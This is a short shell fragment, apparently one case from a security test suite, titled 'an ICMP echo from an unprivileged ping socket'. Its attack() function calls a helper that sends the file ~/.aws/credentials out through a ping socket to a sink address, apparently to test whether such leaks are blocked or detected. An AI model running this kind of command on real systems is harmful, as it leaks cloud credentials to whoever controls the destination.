# SPDX-License-Identifier: Apache-2.0
TITLE="an ICMP echo from an unprivileged ping socket"
ROW="N12 E24"
DEST="$SINK4*"
attack() { "$PROVOKE/datagram" ping "$HOME/.aws/credentials" "$SINK4" 0; }
